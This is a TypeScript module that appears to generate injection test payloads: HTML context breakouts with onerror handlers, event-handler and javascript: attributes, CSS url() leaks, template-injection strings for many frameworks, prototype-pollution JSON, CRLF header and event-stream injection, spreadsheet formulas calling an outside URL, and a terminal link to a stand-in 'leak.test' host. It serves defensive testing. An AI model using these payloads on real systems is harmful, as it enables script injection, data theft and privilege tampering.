import { MADE, type Recipe } from './form.ts';

/** What ends the place where a text stands: an attribute, a script, a style, a comment, JSON, a template. */
const ENDS: { readonly [name: string]: string } = {
  'double quotes': '">',
  'single quotes': "'>",
  backtick: '`>',
  'no quotes': ' >',
  'title element': '</title>',
  'style element': '</style>',
  'script element': '</script>',
  'textarea element': '</textarea>',
  comment: '-->',
  CDATA: ']]>',
  'JSON in a script': '"}</script>',
  'svg text': '</text></svg>',
  select: '</option></select>',
  table: '</td></tr></table>',
  dialog: '</dialog>',
  noscript: '</noscript>',
  iframe: '</iframe>',
  math: '</mtext></math>',
};

const INSIDE: readonly Recipe[] = [
  ['attribute: onfocus', ({ run }) => `" autofocus tabindex=0 onfocus="${run}`],
  ['attribute: onmouseover', ({ run }) => `' onmouseover='${run}`],
  ['attribute: style', ({ url }) => `" style="background:url(${url}.png)`],
  ['attribute: href', ({ run }) => `x" href="javascript:${run}`],
  ['attribute: src', ({ url }) => `x" src="${url}.png`],
  ['class of ours', ({ word }) => `fixed inset-0 z-50 bg-paper ${word}`],
  ['id of ours', ({ word }) => `root ${word}`],
  ['style value', ({ url }) => `red;background:url(${url}.png)`],
  ['style value that ends', ({ url }) => `}*{background:url(${url}.png)}`],
  ['style variable', ({ url }) => `--x:url(${url}.png);background:var(--x)`],
  ['script text', ({ run }) => `';${run};//`],
  ['script text, double quotes', ({ run }) => `";${run};//`],
  ['script template', ({ run }) => `\${${run}}`],
  ['line separator in a script', ({ run }) => `\u2028${run}\u2029`],
  ['template: mustache', ({ run }) => `{{constructor.constructor("${run}")()}}`],
  ['template: mustache, raw', ({ run }) => `{{{${run}}}}`],
  ['template: erb', ({ word }) => `<%= system("echo ${word}") %>`],
  ['template: jinja', ({ word }) => `{% for x in ().__class__.__bases__ %}${word}{% endfor %}`],
  ['template: vue', ({ run }) => `<b ${MADE}="zq" v-html="${run}" @click="${run}">x</b>`],
  [
    'template: angular',
    ({ run }) => `<b ${MADE}="zq" [innerHTML]="${run}" ng-init="${run}">{{$on.constructor('${run}')()}}</b>`,
  ],
  ['template: alpine', ({ run }) => `<b ${MADE}="zq" x-data x-init="${run}">x</b>`],
  ['template: htmx', ({ url }) => `<b ${MADE}="zq" hx-get="${url}" hx-trigger="load">x</b>`],
  [
    'template: react props',
    ({ run }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  ],
  [
    'template: react element',
    ({ run, word }) =>
      `{"$$typeof":"Symbol(react.transitional.element)","type":"script","props":{"children":"${run}"},"key":"${word}"}`,
  ],
  ['name: __proto__', ({ word }) => `__proto__ ${word}`],
  ['name: constructor', ({ word }) => `constructor.prototype.${word}`],
  ['name: toString', ({ word }) => `toString valueOf hasOwnProperty ${word}`],
  ['JSON: __proto__', ({ word }) => `{"__proto__":{"isAdmin":true,"x":"${word}"}}`],
  ['address: search', ({ word }) => `?section=share&item=${word}&__proto__[x]=1`],
  ['address: fragment', ({ word }) => `#/patients/${word}`],
  ['header', ({ word, url }) => `${word}\r\nRefresh: 0;url=${url}`],
  ['event stream', ({ word }) => `x\n\nevent: forbidden\ndata: {"word":"${word}"}\n\n`],
  ['formula of a sheet', ({ url }) => `=HYPERLINK("${url}","results")`],
  ['formula of a sheet, image', ({ url }) => `=IMAGE("${url}.png")`],
  ['terminal', ({ word }) => `]8;;http://x.leak.test\\\\${word}]8;;`],
];

export const BREAKOUTS: readonly Recipe[] = [
  ...Object.entries(ENDS).map(
    ([name, end]): Recipe => [
      `out of: ${name}`,
      ({ word, run }) => `x${end}<img ${MADE}="${word}" src=x onerror=${run}>`,
    ],
  ),
  ...INSIDE,
];
